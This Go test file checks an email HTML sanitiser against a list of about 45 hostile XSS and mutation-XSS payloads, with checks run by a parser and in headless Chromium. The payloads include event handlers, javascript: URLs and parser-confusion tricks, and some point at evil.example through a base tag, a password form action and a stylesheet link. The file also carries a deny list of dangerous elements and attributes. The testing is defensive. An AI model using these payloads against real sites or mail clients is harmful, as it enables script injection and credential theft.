// Strangers' HTML: what hostile pages try, judged by a parser and by a real browser.

package mail

import (
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	nethtml "golang.org/x/net/html"
)

// hostile pages call pwned() if any of their script runs in any reading of their markup.
var hostile = []string{
	`<script>pwned()</script>ok`,
	`<img src=x onerror=pwned()>`,
	`<img src="x" onerror="pwned()" style="color:red">`,
	`<svg onload=pwned()>`,
	`<svg><script>pwned()</script></svg>`,
	`<svg><style><img src=x onerror=pwned()></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">`,
	`<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=pwned() src=1>">`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">`,
	`<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
	`<noembed><img title="</noembed><img src=x onerror=pwned()>"></noembed>`,
	`<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>`,
	`<textarea><img title="</textarea><img src=x onerror=pwned()>"></textarea>`,
	`<title><img title="</title><img src=x onerror=pwned()>"></title>`,
	`<style><img title="</style><img src=x onerror=pwned()>"></style>`,
	`<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
	`<iframe src="javascript:parent.pwned()"></iframe>`,
	`<object data="data:text/html,<script>parent.pwned()</script>"></object><embed src="javascript:pwned()">`,
	`<a href="javascript:pwned()">a</a><a href="JaVa&#x09;script:pwned()">b</a><a href=" &#14; javascript:pwned()">c</a><a href="data:text/html,<script>pwned()</script>">d</a><a href="vbscript:pwned()">e</a>`,
	`<p style="background:url(javascript:pwned());width:expression(pwned());behavior:url(x);-moz-binding:url(x)">x</p>`,
	`<p style="color:red;/*</style><script>pwned()</script>*/">x</p>`,
	`<table background="javascript:pwned()"><tr><td background="//evil.example/x">x</table>`,
	`<base href="https://evil.example/"><a href="x">x</a><img src="y">`,
	`<meta http-equiv="refresh" content="0;url=javascript:pwned()"><link rel=stylesheet href="//evil.example/x.css">`,
	`<form action="https://evil.example"><input name=password><button onclick=pwned()>ok</button></form>`,
	`<body onload=pwned()><input autofocus onfocus=pwned()><details open ontoggle=pwned()><summary>x</summary></details>`,
	`<video><source onerror=pwned()></video><audio src=x onerror=pwned()></audio><marquee onstart=pwned()>x</marquee>`,
	`<!--><img src=x onerror=pwned()>--><!--[if gte mso 9]><img src=x onerror=pwned()><![endif]-->`,
	`<![CDATA[<img src=x onerror=pwned()>]]><?xml <img src=x onerror=pwned()>?>`,
	`<div title="&quot;><img src=x onerror=pwned()>">x</div><a title='"><img src=x onerror=pwned()>' href="http://x.y/">x</a>`,
	"<a href=\"http://x.y/`onmouseover=pwned()\">x</a><img alt=\"``onerror=pwned()\" src=\"cid:x\">",
	`<img srcset="x 1x" src="data:image/svg+xml,<svg onload=pwned()>"><picture><source srcset=x></picture>`,
	`<p id="x" name="y" class="z" data-controller="evil" contenteditable accesskey=x>x</p>`,
	`<select><style></select><img src=x onerror=pwned()></style></select>`,
	`<template><script>pwned()</script></template><p/onclick=pwned()>x</p>`,
	`<<script>script>pwned()<</script>/script>`,
	`<scr<script>ipt>pwned()</scr</script>ipt>`,
	"<img src=\"x\x00\" onerror\x00=\"pwned()\"><\x00script>pwned()</script>",
	`&lt;script&gt;pwned()&lt;/script&gt;`,
	`<div style="position:fixed;inset:0;z-index:9;top:0;left:0;opacity:0">over everything</div>`,
	`<div style="display:none"><img src=x onerror=pwned()></div>`,
	`<plaintext><img src=x onerror=pwned()>`,
	`<frameset onload=pwned()><frame src="javascript:parent.pwned()"></frameset>`,
	`</div></body></html><script>pwned()</script>`,
	`<table><td></div></table></div><img src=x onerror=pwned()>`,
	`<a href="https://a.example" target="_self" rel="opener" onclick="pwned()" ping="//evil.example">x</a>`,
}

// checkHarmless reads sanitised HTML as a browser would and names whatever should not be there.
func checkHarmless(t *testing.T, src, out string, remote bool) {
	t.Helper()
	complain := func(format string, args ...any) {
		t.Errorf("%s\nfrom %.300q\nout  %.600q", fmt.Sprintf(format, args...), src, out)
	}
	root, err := nethtml.Parse(strings.NewReader("<!doctype html><body>" + out))
	if err != nil {
		complain("not readable: %v", err)
		return
	}
	for n := range root.Descendants() {
		if n.Type == nethtml.CommentNode {
			complain("a comment")
		}
		if n.Type != nethtml.ElementNode {
			continue
		}
		switch n.Data {
		case "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "base", "meta", "link", "template", "noscript", "title", "textarea", "video", "audio":
			complain("element %s", n.Data)
		}
		for _, a := range n.Attr {
			value := strings.ToLower(a.Val)
			switch {
			case strings.HasPrefix(a.Key, "on"), a.Key == "id", a.Key == "class", a.Key == "name", a.Key == "srcset", a.Key == "background", a.Key == "action", a.Key == "ping":
				complain("attribute %s", a.Key)
			case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "position") || strings.Contains(value, "z-index") || strings.Contains(value, "/*")):
				complain("style %s", a.Val)
			case a.Key == "href" || a.Key == "src" || a.Key == "data-remote-src":
				u, err := url.Parse(a.Val)
				if err != nil || u.Scheme == "" || a.Key == "href" && !strings.Contains(" http https mailto tel cid ", " "+u.Scheme+" ") {
					complain("%s %s", a.Key, a.Val)
				} else if a.Key == "src" && u.Scheme != "cid" && !strings.HasPrefix(value, "data:image/") && !(remote && strings.HasPrefix(u.Scheme, "http")) {
					complain("loads %s", a.Val)
				}
			}
		}
	}
}

func TestSanitiseHostile(t *testing.T) {
	for _, src := range hostile {
		for _, remote := range []bool{false, true} {
			out := Sanitise(src, remote)
			checkHarmless(t, src, out, remote)
			if again := Sanitise(out, remote); again != out {
				t.Errorf("not settled:\nsrc   %q\nonce  %q\ntwice %q", src, out, again)
			}
		}
	}
}

func TestSanitiseKeeps(t *testing.T) {
	for src, want := range map[string]string{
		`<p style="color: RED; position: fixed; font-size:12pt">x`:      `<p style="color: RED; font-size: 12pt">x</p>`,
		`<a href="https://evil.example/">https://bank.example</a>`:      `<a href="https://evil.example/" rel="nofollow noreferrer noopener" target="_blank">https://bank.example</a>`,
		`<a href="mailto:a@b.c">mail</a>`:                               `<a href="mailto:a@b.c" rel="nofollow noreferrer">mail</a>`,
		`<img src="cid:logo@x" alt="Logo" width=40>`:                    `<img alt="Logo" width="40" src="cid:logo@x"/>`,
		`<img src="https://t.example/p.gif?a=1&amp;b=2" width="1">`:     `<img width="1" data-remote-src="https://t.example/p.gif?a=1&amp;b=2"/>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=">`:                `<img src="data:image/png;base64,iVBORw0KGgo="/>`,
		`<table border=1 bgcolor="#ff0000"><tr><td colspan=2>x</table>`: `<table border="1" bgcolor="#ff0000"><tbody><tr><td colspan="2">x</td></tr></tbody></table>`,
		`<blockquote type="cite">q</blockquote><pre>a  b</pre>`:         `<blockquote type="cite">q</blockquote><pre>a  b</pre>`,
		`<div style="display:none">preview</div>seen`:                   `seen`,
		`<p dir="rtl" lang="he">שלום</p>`:                               `<p dir="rtl" lang="he">שלום</p>`,
		`</div></div>after`:                                             `after`,
		`<div><b>open`:                                                  `<div><b>open</b></div>`,
		``:                                                              ``,
	} {
		if got := Sanitise(src, false); got != want {
			t.Errorf("%s\nbecomes %s\nwant    %s", src, got, want)
		}
	}
}

// TestSanitiseRemote: parked images come back on request, and only then.
func TestSanitiseRemote(t *testing.T) {
	parked := Sanitise(`<img src="//t.example/a.png"><img src="http://t.example/b.png"><img src="x.png">`, false)
	if strings.Contains(parked, ` src="http`) || strings.Count(parked, "data-remote-src") != 2 {
		t.Errorf("parked: %s", parked)
	}
	if shown := Sanitise(parked, true); strings.Count(shown, ` src="http`) != 2 || strings.Contains(shown, "data-remote-src") {
		t.Errorf("shown: %s", shown)
	}
}

func TestSafeType(t *testing.T) {
	for in, want := range map[string]string{
		"image/png": "image/png", "IMAGE/PNG; name=x": "image/png", "application/pdf": "application/pdf", "text/plain; charset=utf-8": "text/plain", "text/csv": "text/csv",
		"application/vnd.openxmlformats-officedocument.wordprocessingml.document": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
		"text/html": "", "image/svg+xml": "", "application/xhtml+xml": "", "text/xml": "", "application/javascript": "", "text/javascript": "", "text/css": "", "": "", "text": "",
		"text/html/x": "", "a/b": "", "text/plain\r\nX: y": "", "multipart/mixed": "", "application/x-shockwave-flash": "", "application/wasm": "",
	} {
		if want == "" {
			want = "application/octet-stream"
		}
		if got := SafeType(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}

// TestSanitiseInBrowser puts every hostile page, sanitised, into a real browser in the two ways pages get there: as markup that
// is parsed, and by innerHTML.
func TestSanitiseInBrowser(t *testing.T) {
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("Chromium is not installed: run bin/ci, which installs it")
	}
	var page strings.Builder
	page.WriteString("<!doctype html><meta charset=utf-8><title>untouched</title><script>function pwned(){document.title='pwned'}</script><body>\n")
	for i, src := range hostile {
		for _, remote := range []bool{false, true} {
			out := Sanitise(src, remote)
			fmt.Fprintf(&page, "<div>%s</div><div id=d%d></div><script>document.getElementById('d%d').innerHTML=%s;document.getElementById('d%d').innerHTML+=''</script>\n",
				out, i, i, strings.ReplaceAll(fmt.Sprintf("%+q", out), "\\U000", "\\u"), i)
		}
	}
	page.WriteString("<script>for (const a of document.links) if (!/^(https?|mailto|tel|cid):/.test(a.protocol)) pwned()</script><p>the end</p>")
	file := filepath.Join(t.TempDir(), "page.html")
	if err := os.WriteFile(file, []byte(page.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--user-data-dir="+t.TempDir(), "--virtual-time-budget=2000", "--dump-dom", "file://"+file)
	cmd.WaitDelay = time.Second
	dom, err := cmd.Output()
	if err != nil {
		t.Fatalf("Chromium: %v", err)
	}
	if !strings.Contains(string(dom), "<p>the end</p>") || !strings.Contains(string(dom), "<title>untouched</title>") {
		t.Errorf("a script of a stranger ran, or the page broke:\n%.3000s", dom)
	}
}
